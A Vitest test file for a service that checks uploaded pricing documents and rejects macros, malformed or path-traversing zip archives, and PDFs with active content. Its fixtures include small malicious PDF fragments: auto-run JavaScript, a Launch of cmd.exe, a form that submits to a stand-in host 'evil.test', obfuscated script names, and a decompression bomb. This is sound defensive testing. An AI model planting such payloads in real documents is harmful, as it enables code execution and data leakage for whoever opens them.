import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { requiredContentType, uploadFaults } from '#shared/media/uploads.ts';
import {
  compoundFile,
  cutInHalf,
  docx,
  html,
  pdf,
  program,
  xlsx,
  zip,
  pdfPacking,
  pdfSaying,
} from '#tests/support/files.ts';
import { isDocument, pdfFault, documentFault } from './check-document.ts';

const pricingContentType = (extension: string): string =>
  requiredContentType('pricing-document', `prices.${extension}`) ?? '';

const right: [string, Buffer][] = [
  ['pdf', pdf],
  ['doc', compoundFile('WordDocument')],
  ['xls', compoundFile('Workbook')],
  ['docx', docx],
  ['xlsx', xlsx],
];

describe('document check', () => {
  it.each(right)('recognizes a %s by its content', async (extension, bytes) => {
    expect(await isDocument(pricingContentType(extension), bytes)).toBe(true);
  });

  it.each(right)('recognizes a %s as no other kind', async (extension, bytes) => {
    const taken: string[] = [];
    for (const [other] of right) if (await isDocument(pricingContentType(other), bytes)) taken.push(other);
    expect(taken).toEqual([extension]);
  });

  it.each(right.filter(([extension]) => extension !== 'doc' && extension !== 'xls'))(
    'refuses a truncated %s',
    async (extension, bytes) => expect(await isDocument(pricingContentType(extension), cutInHalf(bytes))).toBe(false),
  );

  it.each(right)('refuses a program, a web page and any other zip as a %s', async (extension) => {
    for (const bytes of [program, html, zip(['notes.txt']), Buffer.alloc(0), Buffer.from('PK')])
      expect(await isDocument(pricingContentType(extension), bytes)).toBe(false);
  });

  it('accepts a zip with a comment at its end', async () => {
    const bytes = zip(['[Content_Types].xml', 'word/document2.xml'], 'made by hand');
    expect(await isDocument(pricingContentType('docx'), bytes)).toBe(true);
  });

  it('refuses a document with macros', async () => {
    const parts = ['[Content_Types].xml', 'word/document.xml', 'word/vbaProject.bin'];
    expect(await isDocument(pricingContentType('docx'), zip(parts))).toBe(false);
  });

  it('refuses a zip whose directory points outside the file', async () => {
    const bytes = Buffer.from(docx);
    bytes.writeUInt32LE(0xffffff00, bytes.length - 6);
    expect(await isDocument(pricingContentType('docx'), bytes)).toBe(false);
  });

  it('refuses a document with data after the end of its zip', async () => {
    const macros = zip(['[Content_Types].xml', 'word/document.xml', 'word/vbaProject.bin']);
    expect(await isDocument(pricingContentType('docx'), Buffer.concat([docx, Buffer.from('more')]))).toBe(false);
    expect(await isDocument(pricingContentType('docx'), Buffer.concat([macros, docx]))).toBe(false);
  });

  it.each(['../word/document.xml', '/word/document.xml', String.raw`word\document.xml`])(
    'refuses a document with a part named %s',
    async (part) =>
      expect(
        await isDocument(pricingContentType('docx'), zip(['[Content_Types].xml', 'word/document.xml', part])),
      ).toBe(false),
  );
});

const script = '<</S/JavaScript/JS(app.alert(1))>>';

describe('a PDF', () => {
  it.each([
    ['a script that runs when it is opened', pdfSaying(`/OpenAction ${script}`)],
    ['an action in another object', pdfSaying('/OpenAction 9 0 R')],
    ['a script of a page', pdfSaying('', `3 0 obj${script}endobj`)],
    ['a program to start', pdfSaying('', '3 0 obj<</S /Launch /F (cmd.exe)>>endobj')],
    ['another file in it', pdfSaying('/Names<</EmbeddedFiles 4 0 R>>')],
    ['a film that is a program', pdfSaying('', '3 0 obj<</Subtype/RichMedia>>endobj')],
    ['a form that sends itself', pdfSaying('', '3 0 obj<</S/SubmitForm/F(https://evil.test)>>endobj')],
    ['a script whose name is spelled by numbers', pdfSaying('', '3 0 obj<</S/J#61vaScr#69pt>>endobj')],
    ['a script in a packed object', pdfPacking(script)],
    ['a script in a packed object that does not say what it is', pdfPacking(script, '/N 1/First 5/Filter/FlateDecode')],
    [
      'a script in a packed object behind much else',
      pdfPacking(script, `/Type/ObjStm/N 1/First 5/Filter/FlateDecode % obj ${' '.repeat(5000)}\n`),
    ],
  ])('is not taken with %s', async (_what, bytes) => {
    expect(pdfFault(bytes)).toBe('active');
    expect(await documentFault('application/pdf', bytes)).toBe(uploadFaults.activeDocument);
  });

  it.each([
    ['behind a password', pdfSaying('', 'trailer<</Encrypt 5 0 R>>')],
    [
      'packed as no program packs it',
      pdfPacking(script, '/Type/ObjStm/N 1/First 5/Filter[/ASCIIHexDecode/FlateDecode]'),
    ],
    ['packed as another object says', pdfPacking(script, '/Type/ObjStm/N 1/First 5/Filter 8 0 R')],
    ['broken', pdfSaying('', '7 0 obj<</Type/ObjStm/N 1/First 5/Filter/FlateDecode>>stream\nno zip\nendstream endobj')],
  ])('is not taken when what it does is %s', async (_how, bytes) => {
    expect(await documentFault('application/pdf', bytes)).toBe(uploadFaults.closedDocument);
  });

  it.each([
    ['plain', pdf],
    ['that opens at a page', pdfSaying('/OpenAction [3 0 R /XYZ null null 0]')],
    ['that speaks of scripts', pdfSaying('', '3 0 obj(JavaScript and Launch are words)endobj')],
    ['with other names that begin alike', pdfSaying('/LaunchDate(2027) /JavaScripts 0')],
    ['with links', pdfSaying('', '3 0 obj<</S/URI/URI(https://hostwell.test)>>endobj')],
    ['with packed objects', pdfPacking('<</Type/Page>>')],
    [
      'with an outline and pictures',
      pdfSaying(
        '',
        '3 0 obj<</First 4 0 R/AP<</N 5 0 R>>>>endobj 6 0 obj<</Filter/DCTDecode>>stream\nJFIF\nendstream endobj',
      ),
    ],
  ])('%s is taken', async (_what, bytes) => {
    expect(await documentFault('application/pdf', bytes)).toBeUndefined();
  });

  it('takes no longer than a moment, however it is made', () => {
    const bomb = deflateSync(Buffer.alloc(200 * 1024 * 1024, 32)).toString('latin1');
    const dictionary = '7 0 obj<</Type/ObjStm/N 1/First 5/Filter/FlateDecode>>';
    const large = 10 * 1024 * 1024;
    const made = [
      pdfSaying('', `${dictionary}stream\n${bomb}\nendstream endobj`),
      pdfSaying('', `${dictionary}stream\n`.repeat(100_000)),
      pdfSaying('', `${'/First'.repeat(large / 6)}stream\n`),
      pdfSaying('', `${'/N /First '.repeat(large / 10)}stream\n`),
      pdfSaying('', '#61'.repeat(large / 3)),
      pdfSaying('', '/OpenAction'.padEnd(large)),
    ];
    for (const bytes of made) {
      // CPU time: a busy machine takes longer on the clock.
      const start = process.cpuUsage();
      pdfFault(bytes);
      expect(process.cpuUsage(start).user).toBeLessThan(5_000_000);
    }
  });
});

it('other documents are judged by their own tests', async () => {
  const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
  expect(await documentFault(word, docx)).toBeUndefined();
  expect(await documentFault('application/pdf', docx)).toBe(uploadFaults.brokenDocument);
});
